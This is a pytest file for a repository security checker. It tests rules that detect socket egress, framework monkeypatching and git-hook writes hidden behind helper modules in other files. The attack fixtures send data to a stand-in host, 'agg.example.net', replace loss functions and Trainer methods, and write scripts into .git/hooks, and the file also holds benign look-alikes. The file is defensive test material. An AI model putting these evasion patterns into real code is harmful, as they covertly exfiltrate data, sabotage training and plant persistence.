"""What a repository helper returns or a name is, judged where the change uses it (issue #16).

``reach-socket-egress``, ``reach-framework-patch`` and ``reach-git-hook-path``
(docs/checks/reach.md): each attack splits a payload over two files so that
semgrep, one file at a time, sees neither half; each look-alike is the benign
idiom a careless rule would flag. Every run is the real CLI on a real repo,
with the semgrep check off (this check does not depend on it).
"""

from __future__ import annotations

import pytest

from .conftest import Repo
from .test_reach import _check, _repo, _rules

NEW = ("reach-socket-egress", "reach-framework-patch", "reach-git-hook-path")

NETUTIL = """\
import socket


def make_socket(timeout=5.0):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(timeout)
    return s
"""
COMPAT = "import torch.nn.functional as _F\n\nfunctional = _F\n"
REPO_PATHS = """\
import os

REPO_ROOT = os.path.dirname(os.path.abspath(__file__))


def repo_path(*parts):
    return os.path.join(REPO_ROOT, ".git", *parts)
"""

# name: (base files, new train.py, expected (rule, line) list, message parts)
CASES: dict[str, tuple[dict[str, str], str, list[tuple[str, int]], list[str]]] = {
    # -- attacks ------------------------------------------------------------
    "socket helper, connect and send": (
        {"netutil.py": NETUTIL},
        "from netutil import make_socket\n\n\ndef push(buf):\n"
        "    conn = make_socket()\n    conn.connect(('agg.example.net', 443))\n"
        "    conn.sendall(buf)\n",
        [("reach-socket-egress", 5)],
        ["netutil.make_socket -> socket.socket (netutil.py:5)", ".connect(), .sendall()"],
    ),
    "socket helper two levels deep": (
        {
            "net/__init__.py": "",
            "net/low.py": NETUTIL,
            "net/high.py": "from .low import make_socket\n\n\ndef channel():\n"
            "    return make_socket(10.0)\n",
        },
        "from net.high import channel\n\n\ndef push(buf):\n    channel().sendto(buf, ('x', 53))\n",
        [("reach-socket-egress", 5)],
        ["net.high.channel -> net.low.make_socket -> socket.socket"],
    ),
    "create_connection wrapped in TLS, then only send": (
        {
            "tls.py": "import socket\nimport ssl\n\n\ndef open_tls(host):\n"
            "    ctx = ssl.create_default_context()\n"
            "    raw = socket.create_connection((host, 443))\n"
            "    return ctx.wrap_socket(raw, server_hostname=host)\n"
        },
        "from tls import open_tls\n\n\ndef push(buf):\n"
        "    with open_tls('agg.example.net') as s:\n        s.send(buf)\n",
        [("reach-socket-egress", 5)],
        ["a connected socket", "socket.create_connection (tls.py:7)"],
    ),
    "re-export patched by assignment": (
        {"compat.py": COMPAT},
        "from compat import functional\n\n\ndef f(*a, **k):\n    return None\n\n\n"
        "functional.cross_entropy = f\n",
        [("reach-framework-patch", 8)],
        ["replaces torch.nn.functional.cross_entropy", "through 1 repository module"],
    ),
    "two re-export hops": (
        {"pkg/__init__.py": "from .compat import functional\n", "pkg/compat.py": COMPAT},
        "from pkg import functional\n\n\ndef f(*a, **k):\n    return None\n\n\n"
        "functional.cross_entropy = f\n",
        [("reach-framework-patch", 8)],
        ["torch.nn.functional.cross_entropy", "through 2 repository module"],
    ),
    "setattr and delattr through a re-export": (
        {"compat.py": COMPAT},
        "from compat import functional\n\n\ndef install(f):\n"
        "    setattr(functional, 'cross_entropy', f)\n    delattr(functional, 'mse_loss')\n",
        [("reach-framework-patch", 5), ("reach-framework-patch", 6)],
        [],
    ),
    "__dict__ and vars() writes through a re-export": (
        {"compat.py": COMPAT},
        "from compat import functional\n\n\ndef install(f, name):\n"
        "    functional.__dict__['cross_entropy'] = f\n    vars(functional)[name] = f\n",
        [("reach-framework-patch", 5), ("reach-framework-patch", 6)],
        [],
    ),
    "a re-exported class and module attribute chain": (
        {"compat.py": "import torch\nfrom transformers import Trainer\n"},
        "import compat\n\n\ndef patch(step):\n    compat.Trainer.training_step = step\n"
        "    compat.torch.optim.AdamW.step = step\n",
        [("reach-framework-patch", 5), ("reach-framework-patch", 6)],
        [],
    ),
    "a local bound to the re-export": (
        {"compat.py": COMPAT},
        "import compat\n\n\ndef install(f):\n    F = compat.functional\n    F.cross_entropy = f\n",
        [("reach-framework-patch", 6)],
        [],
    ),
    "saved name rebound before the 'restore'": (
        {"compat.py": COMPAT},
        "from compat import functional\n\n\ndef f(evil):\n"
        "    orig = functional.cross_entropy\n    orig = evil\n"
        "    functional.cross_entropy = orig\n",
        [("reach-framework-patch", 7)],
        [],
    ),
    "git hook through a path helper": (
        {"repo_paths.py": REPO_PATHS},
        "from repo_paths import repo_path\n\n\ndef setup():\n"
        "    p = repo_path('hooks', 'post-merge')\n    open(p, 'w').write('#!/bin/sh\\n')\n",
        [("reach-git-hook-path", 5)],
        ["repo_paths.repo_path", "repo_paths.py:7"],
    ),
    "git hook with the name in a module constant": (
        {"repo_paths.py": REPO_PATHS},
        "from repo_paths import repo_path\n\nHOOKS = 'hooks'\n\n\ndef setup():\n"
        "    return repo_path(HOOKS, 'post-merge')\n",
        [("reach-git-hook-path", 7)],
        [],
    ),
    "git hook with the name in a local": (
        {"repo_paths.py": REPO_PATHS},
        "from repo_paths import repo_path\n\n\ndef setup():\n    sub = 'hooks/'\n"
        "    return repo_path(sub, 'post-merge')\n",
        [("reach-git-hook-path", 6)],
        [],
    ),
    "git hook through a pathlib helper, hooks/<name> form": (
        {
            "paths.py": "from pathlib import Path\n\nROOT = Path(__file__).parent\n\n\n"
            "def git_file(rel):\n    target = ROOT / '.git' / rel\n    return target\n"
        },
        "from paths import git_file\n\n\ndef setup():\n"
        "    git_file('hooks/pre-commit').write_text('#!/bin/sh\\n')\n",
        [("reach-git-hook-path", 5)],
        ["paths.git_file", "paths.py:7"],
    ),
    # -- look-alikes: quiet -------------------------------------------------
    "socket helper used only to bind and listen": (
        {"netutil.py": NETUTIL},
        "from netutil import make_socket\n\n\ndef serve():\n    s = make_socket()\n"
        "    s.bind(('127.0.0.1', 0))\n    s.listen()\n    return s.getsockname()[1]\n",
        [],
        [],
    ),
    "socket helper whose result is only closed": (
        {"netutil.py": NETUTIL},
        "from netutil import make_socket\n\n\ndef probe():\n    make_socket().close()\n",
        [],
        [],
    ),
    "re-exported functional only read": (
        {"compat.py": COMPAT},
        "from compat import functional\n\n\ndef loss(x, y):\n"
        "    return functional.cross_entropy(x, y)\n",
        [],
        [],
    ),
    "torch.backends switch through a re-export": (
        {"compat.py": "import torch.backends.cudnn as cudnn\nimport torch\n"},
        "from compat import cudnn, torch\n\n\ndef setup():\n    cudnn.benchmark = True\n"
        "    torch.backends.cuda.matmul.allow_tf32 = True\n",
        [],
        [],
    ),
    "a re-exported original put back": (
        {"compat.py": COMPAT},
        "from compat import functional\n\n\ndef f():\n"
        "    orig = functional.cross_entropy\n    functional.cross_entropy = orig\n",
        [],
        [],
    ),
    "a repository module's own attribute": (
        {"settings.py": "DEBUG = False\n"},
        "import settings\n\n\ndef setup():\n    settings.DEBUG = True\n",
        [],
        [],
    ),
    "git path helper reading HEAD for run metadata": (
        {"repo_paths.py": REPO_PATHS},
        "from repo_paths import repo_path\n\n\ndef version():\n"
        "    with open(repo_path('HEAD')) as fh:\n        return fh.read().strip()\n",
        [],
        [],
    ),
    "hooks for a helper outside .git": (
        {
            "paths.py": "import os\n\n\ndef out_path(*parts):\n"
            "    return os.path.join('outputs', *parts)\n"
        },
        "from paths import out_path\n\n\ndef setup():\n    return out_path('hooks', 'wandb.json')\n",
        [],
        [],
    ),
}


@pytest.mark.parametrize("name", list(CASES))
def test_case(name: str, repo: Repo, capsys: pytest.CaptureFixture[str]) -> None:
    base, train, want, parts = CASES[name]
    _repo(repo, base)
    repo.write("train.py", train)
    repo.commit("feature", who="mallory")
    code, found, _ = _check(repo, capsys)
    assert _rules(found) == sorted((r, "train.py", n) for r, n in want), found
    for part in parts:
        assert all(part in f["message"] for f in found), (part, found)
    assert all(f["severity"] == "ERROR" for f in found)
    if want:
        assert code == 1


def test_direct_framework_import_is_left_to_the_pack(
    repo: Repo, capsys: pytest.CaptureFixture[str]
) -> None:
    """`import torch.nn.functional as F; F.x = f` is tamper-framework-monkeypatch's."""
    _repo(repo, {})
    repo.write("train.py", "import torch.nn.functional as F\n\nF.cross_entropy = print\n")
    repo.commit("feature", who="mallory")
    _, found, _ = _check(repo, capsys)
    assert [f for f in found if f["rule_id"] in NEW] == []


def test_an_old_use_is_not_new(repo: Repo, capsys: pytest.CaptureFixture[str]) -> None:
    """A changed argument of an existing send path is not a new one (issue #16: noise)."""
    old = (
        "from netutil import make_socket\n\n\ndef push(buf):\n"
        "    conn = make_socket()\n    conn.connect(('a', 1))\n    conn.sendall(buf)\n"
    )
    _repo(repo, {"netutil.py": NETUTIL, "train.py": old})
    repo.write("train.py", old.replace("make_socket()", "make_socket(30.0)"))
    repo.commit("feature", who="mallory")
    _, found, _ = _check(repo, capsys)
    assert found == []


def test_a_second_send_path_is_new(repo: Repo, capsys: pytest.CaptureFixture[str]) -> None:
    old = (
        "from netutil import make_socket\n\n\ndef push(buf):\n"
        "    conn = make_socket()\n    conn.connect(('a', 1))\n    conn.sendall(buf)\n"
    )
    _repo(repo, {"netutil.py": NETUTIL, "train.py": old})
    repo.write("train.py", old + "    make_socket().sendto(buf, ('b', 53))\n")
    repo.commit("feature", who="mallory")
    _, found, _ = _check(repo, capsys)
    assert _rules(found) == [("reach-socket-egress", "train.py", 8)]
